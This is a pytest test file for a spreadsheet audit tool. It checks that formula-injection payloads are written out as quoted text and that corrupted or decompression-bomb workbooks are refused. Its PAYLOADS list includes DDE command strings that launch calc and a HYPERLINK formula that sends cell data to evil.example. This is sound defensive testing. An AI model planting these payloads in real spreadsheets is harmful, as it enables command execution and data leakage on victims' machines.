"""Hostile text and hostile files through the audit (ISSUE 9 items 7–9): a formula in a
justification, a name, an account or the seed comes out as text in the supervisor's
sheet, the anomaly and referral lists and the account review and roster, and reads
back as it was; a bomb or a damaged sheet, log or registry is one line, exit 3."""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from docgen.audit.samples import list_samples, load_results, load_sample
from docgen.audit.sheet import MAX_ROWS
from docgen.cells import FORMULA_TRIGGERS, QUOTE, restore
from docgen.config import Workspace
from docgen.db import open_database
from docgen.services.accounts import import_registry
from tests.audit.cli import docgen
from tests.hostile import generate
from tests.hostile.cli import assert_one_line_error, run_docgen

from .conftest import ACCOUNT_HEADER, QUERY_HEADER, national_id

#: OWASP's examples and their cousins (DDE, HYPERLINK, @-functions, full-width).
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?q="&B4,"看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "＝1+1",
    "-",
]
EVIL_ACCOUNT = "@SUM(1+1)*cmd|' /C calc'!A0"
SEED = "=1+1"
OUT = Path("out") / "audit" / "2026-10"
DAMAGES: dict[str, Callable[[Path, Path], Path]] = {
    "bad CRC": lambda target, source: generate.bad_crc(target, source),
    "truncated member": lambda target, source: generate.truncated_member(target, source),
    "truncated zip": lambda target, source: generate.truncated_zip(target, source),
    "sheet not XML": lambda target, source: generate.member_not_xml(target, source),
    "billion laughs": lambda target, source: generate.billion_laughs(target, source),
    "workbook.xml not XML": lambda target, source: generate.member_not_xml(
        target, source, member_name="xl/workbook.xml"
    ),
}


def assert_one_line(code: int, output: str, path: Path) -> None:
    lines = output.strip().splitlines()
    assert code == 3, output
    assert len(lines) == 1 and lines[0].startswith("Error: ") and path.name in lines[0], output


def write_payload_log(ws: Workspace) -> None:
    """October: 30 justified queries of u01 whose 公文文號, 查詢項目 and names are
    payloads; 5 without justification (anomalies); one by an account that is one."""
    rows = []
    start = datetime(2026, 10, 1, 9)
    for n in range(35):
        payload = PAYLOADS[n % len(PAYLOADS)]
        reason = [payload, "", "", "", ""] if n < 30 else ["", "", "", "", ""]
        at = (start + timedelta(hours=n)).strftime("%Y-%m-%d %H:%M:%S")
        rows.append([at, "u01", national_id("F", 100 + n), payload, payload, *reason])
    rows.append(["2026-10-20 10:00:00", EVIL_ACCOUNT, national_id("G", 7), "陳一", "戶籍資料"])
    rows[-1] += ["", "", "", "業務查核", ""]
    with open(ws.data_dir / "queries" / "2026-10.csv", "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(QUERY_HEADER)
        writer.writerows(rows)


def assert_no_formula(path: Path) -> None:
    """No worksheet of the workbook at ``path`` holds a formula."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, (path.name, name)
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value:
                    assert cell.value[0] not in FORMULA_TRIGGERS, (path.name, cell.coordinate)


def assert_csv_neutral(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c and c[0] in FORMULA_TRIGGERS], path.name
    return cells


def fill(path: Path) -> Path:
    """Mark every case 是, the second 否 with a remark, evidence names starting with @
    and - (typed as text by the supervisor)."""
    book = load_workbook(path)
    sheet = book["抽查表"]
    for row in range(4, sheet.max_row + 1):
        if sheet.cell(row, 1).value is not None:
            sheet.cell(row, 7, "否" if row == 5 else "是")
            sheet.cell(row, 8, "-查無公文" if row == 5 else None)
            sheet.cell(row, 9, f"@ev{row}.pdf")
    book.save(path)
    return path


def test_payloads_are_text_in_every_list_and_read_back_as_they_were(
    office: Workspace, capsys: pytest.CaptureFixture[str]
) -> None:
    write_payload_log(office)
    code, output = docgen(office, capsys, "audit", "sample", "--month", "2026-10", "--seed", SEED)
    assert code == 0, output
    out = office.root / OUT
    books = sorted(out.glob("*.xlsx"))
    assert {p.name for p in books} >= {"抽查表_2026-10_企劃室.xlsx", "異常清單_2026-10_企劃室.xlsx"}
    for book in books:
        assert_no_formula(book)
    sheet = load_workbook(out / "抽查表_2026-10_企劃室.xlsx")["抽查表"]
    sample = load_sample(office, "2026-10", "企劃室")
    justifications = [sheet.cell(4 + i, 6).value for i in range(sample.sample_size)]
    assert sample.sample_size == 6
    assert all(j.startswith(QUOTE) and restore(j) in PAYLOADS for j in justifications)
    assert [restore(j) for j in justifications] == [c.justification for c in sample.cases]
    meta = dict(load_workbook(out / "抽查表_2026-10_企劃室.xlsx")["docgen"].values)
    assert meta["seed"] == QUOTE + SEED and sample.seed == SEED
    anomalies = assert_csv_neutral(out / "異常清單_2026-10_企劃室.csv")
    assert {QUOTE + p for p in PAYLOADS} & set(anomalies)
    unknown = assert_csv_neutral(out / "異常清單_2026-10_未知單位.csv")
    assert QUOTE + EVIL_ACCOUNT in unknown

    sheets = [fill(p) for p in out.glob("抽查表_*.xlsx")]
    code, output = docgen(office, capsys, "audit", "results", *map(str, sheets))
    assert code == 0, output  # the quoted cells read back equal to the sample
    results = load_results(office, "2026-10", "企劃室")
    assert results is not None
    assert {c.evidence for c in results.cases} == {f"@ev{r}.pdf" for r in range(4, 10)}
    referrals = out / "轉介清單_2026-10_企劃室.xlsx"
    assert_no_formula(referrals)
    cells = assert_csv_neutral(referrals.with_suffix(".csv"))
    assert "'@ev5.pdf" in cells and any("-查無公文" in c for c in cells)


def test_a_damaged_sheet_is_one_line(
    office: Workspace, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, output = docgen(office, capsys, "audit", "sample", "--month", "2026-10")
    assert code == 0, output
    sheet = fill(office.root / OUT / "抽查表_2026-10_企劃室.xlsx")
    for damage, build in DAMAGES.items():
        broken = build(tmp_path / f"抽查表_{damage.replace(' ', '_')}.xlsx", sheet)
        code, output = docgen(office, capsys, "audit", "results", str(broken))
        assert_one_line(code, output, broken)
    assert load_results(office, "2026-10", "企劃室") is None


def test_a_sheet_with_rows_past_any_sample_is_refused(
    office: Workspace, capsys: pytest.CaptureFixture[str]
) -> None:
    code, output = docgen(office, capsys, "audit", "sample", "--month", "2026-10")
    assert code == 0, output
    path = office.root / OUT / "抽查表_2026-10_企劃室.xlsx"
    book = load_workbook(path)
    sheet = book["抽查表"]
    for row in range(30, 30 + MAX_ROWS + 1):
        sheet.cell(row, 1, row)
    book.save(path)
    code, output = docgen(office, capsys, "audit", "results", str(path))
    assert code == 3 and f"more than {MAX_ROWS:,} filled rows" in output, output


def test_bombs_are_refused_in_bounded_memory(office: Workspace, tmp_path: Path) -> None:
    """ISSUE 9: `audit sample --queries` on a 1.7 MB log that inflates to 1.8 GB went
    past 3 GB; `audit results` on a bomb sheet reached 1.8 GB."""
    bomb = generate.xlsx_bomb(tmp_path / "2026-10.xlsx")
    root = str(office.root)
    sample = run_docgen(
        ["-w", root, "audit", "sample", "--month", "2026-10", "--queries", str(bomb)]
    )
    assert_one_line_error(sample, bomb)
    sheet = generate.xlsx_bomb(tmp_path / "抽查表_2026-10_企劃室.xlsx")
    results = run_docgen(["-w", root, "audit", "results", str(sheet)])
    assert_one_line_error(results, sheet)
    assert max(sample.peak_mb, results.peak_mb) < 250
    assert list_samples(office) == []


@pytest.mark.parametrize("damage", sorted(DAMAGES))
def test_a_damaged_log_is_one_line_for_audit_sample(
    damage: str, office: Workspace, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    log = DAMAGES[damage](tmp_path / "2026-10.xlsx", generate.workbook(tmp_path / "ok.xlsx"))
    code, output = docgen(
        office, capsys, "audit", "sample", "--month", "2026-10", "--queries", str(log)
    )
    assert_one_line(code, output, log)


# --- the account review and roster ------------------------------------------------------


def write_payload_registry(ws: Workspace) -> None:
    """Accounts whose ID, name, unit and title are payloads, without their papers (so
    the review lists them)."""
    rows = [
        [p, p, national_id("H", 10 + n), p, p, "一般使用者", "啟用", "2025-01-02", "2025-02-01"]
        + [""] * 8
        for n, p in enumerate(PAYLOADS)
    ]
    with open(ws.data_dir / "accounts.csv", "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(ACCOUNT_HEADER.split(","))
        writer.writerows(rows)
    with open_database(ws) as db:
        import_registry(ws, db, ws.data_dir / "accounts.csv", remove=True)


def test_the_account_review_and_roster_write_payloads_as_text(
    office: Workspace, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    write_payload_registry(office)
    review = tmp_path / "帳號清查.xlsx"
    code, output = docgen(
        office, capsys, "accounts", "review", "--as-of", "2026-11-30", "--format", "xlsx",
        "-o", str(review),
    )  # fmt: skip
    assert code == 0, output
    assert_no_formula(review)
    accounts = {c.value for c in load_workbook(review).active["B"]}  # type: ignore[index]
    assert {QUOTE + p for p in PAYLOADS} <= accounts
    review_csv = tmp_path / "帳號清查.csv"
    args = ("accounts", "review", "--as-of", "2026-11-30", "--format", "csv", "-o", str(review_csv))
    assert docgen(office, capsys, *args)[0] == 0
    assert {QUOTE + p for p in PAYLOADS} <= set(assert_csv_neutral(review_csv))
    for fmt in ("xlsx", "csv"):
        roster = tmp_path / f"使用者清冊.{fmt}"
        args = ("accounts", "roster", "--format", fmt, "-o", str(roster))
        assert docgen(office, capsys, *args)[0] == 0
        if fmt == "xlsx":
            assert_no_formula(roster)
        else:
            assert {QUOTE + p for p in PAYLOADS} <= set(assert_csv_neutral(roster))


def _xlsx_registry(ws: Workspace, tmp_path: Path) -> Path:
    with open(ws.data_dir / "accounts.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    (ws.data_dir / "accounts.csv").unlink()
    return generate.workbook(tmp_path / "registry.xlsx", rows, title="帳號")


@pytest.mark.parametrize("damage", ["bad CRC", "sheet not XML", "billion laughs", "truncated zip"])
def test_a_damaged_registry_is_one_line_for_the_import(
    damage: str, office: Workspace, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    registry = DAMAGES[damage](office.data_dir / "accounts.xlsx", _xlsx_registry(office, tmp_path))
    code, output = docgen(office, capsys, "accounts", "import", str(registry))
    assert_one_line(code, output, registry)


def test_a_registry_bomb_is_refused_in_bounded_memory(office: Workspace, tmp_path: Path) -> None:
    _xlsx_registry(office, tmp_path)
    bomb = generate.xlsx_bomb(office.data_dir / "accounts.xlsx")
    done = run_docgen(["-w", str(office.root), "accounts", "import", str(bomb)])
    assert_one_line_error(done, bomb)
    assert done.peak_mb < 250
